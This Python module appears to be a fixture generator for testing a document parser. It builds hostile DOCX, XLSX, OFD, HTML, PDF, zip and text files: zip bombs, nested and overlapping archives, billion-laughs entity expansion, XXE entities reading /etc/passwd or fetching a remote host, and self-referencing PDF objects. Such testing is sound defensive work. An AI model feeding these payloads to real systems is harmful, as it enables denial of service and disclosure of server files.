"""Files made to harm whoever reads them: each a few lines that make the bytes."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

TITLE = "某某市人民政府2024年政府信息公开工作年度报告"
_DOCX = "[Content_Types].xml"
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def zipped(files: dict[str, bytes], *, packed: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def word(body: str, head: str = "", *, packed: bool = False) -> bytes:
    text = f"<?xml version='1.0'?>{head}<w:document {_WORD}><w:body>{body}</w:body></w:document>"
    return zipped({_DOCX: b"<Types/>", "word/document.xml": text.encode()}, packed=packed)


def sheet(rows: str, head: str = "", *, packed: bool = False) -> bytes:
    return zipped({
        _DOCX: b"<Types/>",
        "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                       b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                       b'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {_MAIN} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" '
                           'sheetId="1" r:id="rId1"/></sheets></workbook>'.encode(),
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                                      b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                                      b'Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"{head}<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>".encode()}, packed=packed)


def ofd(page: str, head: str = "", *, packed: bool = False) -> bytes:
    return zipped({"OFD.xml": b"<OFD><DocBody><DocRoot>D.xml</DocRoot></DocBody></OFD>",
                   "D.xml": b'<Document><CommonData/><Pages><Page ID="1" BaseLoc="P.xml"/></Pages></Document>', "P.xml": f"{head}{page}".encode()}, packed=packed)


def pdf(objects: dict[int, bytes], *, cross: bool = True) -> bytes:
    """A PDF file of these objects; the first is its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    if cross:
        out += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % place for place in places.items())
    return bytes(out + b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, start))


def pages(content: bytes, *, kids: bytes = b"[3 0 R]", resources: bytes = b"<<>>", **more: bytes) -> dict[int, bytes]:
    return {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 1/Kids %s>>" % kids,
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources %s>>" % resources, 4: stream(content)}


def stream(content: bytes, named: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return b"<<%s/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (named, len(packed), packed)


def _million_pdf_objects() -> bytes:
    return pdf({**pages(b""), **dict.fromkeys(range(5, 1000005), b"<<>>")})


def _entities() -> str:
    return ('<!DOCTYPE a [<!ENTITY a "' + "1" * 1000 + '">'
            + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)) + "]>")


_EXTERNAL = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://192.0.2.1/x">]>'


def _matryoshka(depth: int) -> bytes:
    data = b"x" * 1000
    for number in range(depth):
        data = zipped({f"{number}.zip": data}, packed=False)
    return data


def _quine_of_archives() -> bytes:
    """Archives of archives that become ten times as much at each step."""
    data = zipped({"a.txt": b" " * 1_000_000})
    for _ in range(4):
        data = zipped({f"{n}.zip": data for n in range(10)})
    return data


def _table(rows: int, columns: int) -> str:
    return "<table>" + ("<tr>" + "<td>1" * columns) * rows + "</table>"


HEAD = f"<html><head><title>{TITLE}</title></head><body><h1>{TITLE}</h1>"

FILES: dict[str, Callable[[], bytes]] = {
    # archives
    "bomb.docx": lambda: zipped({_DOCX: b"<Types/>", "word/document.xml": b" " * 180_000_000}),
    "bomb.xlsx": lambda: sheet(" " * 60_000_000, packed=True),
    "bomb.ofd": lambda: ofd("<Page>" + " " * 60_000_000 + "</Page>", packed=True),
    "nested.zip": lambda: _matryoshka(300),
    "tenfold.zip": _quine_of_archives,
    "many.zip": lambda: zipped({f"{n}.txt": b"x" for n in range(20_000)}, packed=False),
    "overlapping.zip": lambda: _overlapping(),
    # XML
    "entities.docx": lambda: word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", _entities()),
    "entities.xlsx": lambda: sheet('<row><c t="str"><v>&j;</v></c></row>', _entities()),
    "entities.ofd": lambda: ofd("<Page>&j;</Page>", _entities()),
    "external.docx": lambda: word("<w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p>", _EXTERNAL),
    "external.xlsx": lambda: sheet('<row><c t="str"><v>&a;&b;</v></c></row>', _EXTERNAL),
    "deep.docx": lambda: word("<w:p>" * 200_000),
    "deep.ofd": lambda: ofd("<a>" * 1_000_000),
    "cells.docx": lambda: word("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 100 + "</w:tr>") * 10_000 + "</w:tbl>"),
    "cells.xlsx": lambda: sheet(("<row>" + "<c><v>1</v></c>" * 1000 + "</row>") * 1001),
    "span.docx": lambda: word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>' * 50),
    "far.xlsx": lambda: sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>'),
    # web pages
    "deep.html": lambda: (HEAD + "<div>" * 1_000_000 + "1").encode(),
    "deep tables.html": lambda: (HEAD + "<table><tr><td>" * 100_000 + "1").encode(),
    "span.html": lambda: (HEAD + "<table>" + "<tr>" + "<td colspan=1000000000 rowspan=1000000000>1" * 3000 + "</table>").encode(),
    "spans.html": lambda: (HEAD + "<table>" + "<tr><td rowspan=1000 colspan=1000>1" * 3000 + "</table>").encode(),
    "cells.html": lambda: (HEAD + _table(1000, 1000)).encode(),
    "narrow.html": lambda: (HEAD + _table(500_000, 2)).encode(),
    "tables.html": lambda: (HEAD + _table(1, 2) * 100_000).encode(),
    "attributes.html": lambda: (HEAD + "<p " + "".join(f"a{n}=1 " for n in range(500_000)) + ">1</p>").encode(),
    "unclosed.html": lambda: (HEAD + "<!--" * 1_000_000 + "<" * 5_000_000).encode(),
    # PDF
    "loop of pages.pdf": lambda: pdf(pages(b"", kids=b"[2 0 R 3 0 R]")),
    "loop of forms.pdf": lambda: pdf({**pages(b"/F Do", resources=b"<</XObject<</F 5 0 R>>>>"),
                                      5: stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")}),
    "forms of forms.pdf": lambda: pdf({**pages(b"/F Do " * 20, resources=b"<</XObject<</F 5 0 R>>>>"), **{
        n: stream(b"/F Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % (n + 1)) for n in range(5, 30)},
        30: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")}),
    "objects.pdf": _million_pdf_objects,
    "bomb.pdf": lambda: pdf(pages(b"0 0 1 1 re f\n" * 10_000_000)),
    "bomb of text.pdf": lambda: pdf(pages(b"BT /F 9 Tf (1) Tj ET\n" * 3_000_000, resources=b"<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>")),
    "nested arrays.pdf": lambda: pdf({1: b"<</Type/Catalog/Pages " + b"[" * 1_000_000 + b">>"}, cross=False),
    # text
    "one line.txt": lambda: (TITLE + "1 " * 30_000_000).encode(),
    "digits.txt": lambda: (TITLE + "\n一、总体情况\n" + "9" * 20_000_000).encode(),
    "lines.txt": lambda: (TITLE + "\n" + "1\n" * 5_000_000).encode(),
    "tabs.txt": lambda: (TITLE + "\n" + ("1\t" * 1000 + "\n") * 2000).encode(),
    "nulls.txt": lambda: (TITLE + "\n一、总体情况\n\0\0\0\n" + "a\0b" * 1_000_000).encode(),
    "mixed encodings.txt": lambda: b"".join((TITLE + "\n").encode(codec, "replace") for codec in ("utf-8", "gb18030", "utf-16", "big5", "utf-7")) * 200,
    "pairs.txt": lambda: (TITLE + "（" * 500_000 + "）" * 500_000 + "其中" * 300_000).encode(),
    "headings.txt": lambda: (TITLE + "\n" + "一、总体情况\n二、主动公开政府信息情况\n三、收到和处理政府信息公开申请情况\n" * 20_000).encode(),
}


def _overlapping() -> bytes:
    """An archive of 200 members that are one and the same piece of the file."""
    data = bytearray(zipped({"000.txt": b" " * 900_000}))
    at = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = bytes(data[at:end])
    entries = b"".join(entry.replace(b"000.txt", b"%03d.txt" % n) for n in range(200))
    tail = b"PK\x05\x06" + b"\0" * 4 + (200).to_bytes(2, "little") * 2 + len(entries).to_bytes(4, "little") + at.to_bytes(4, "little") + b"\0\0"
    return bytes(data[:at]) + entries + tail
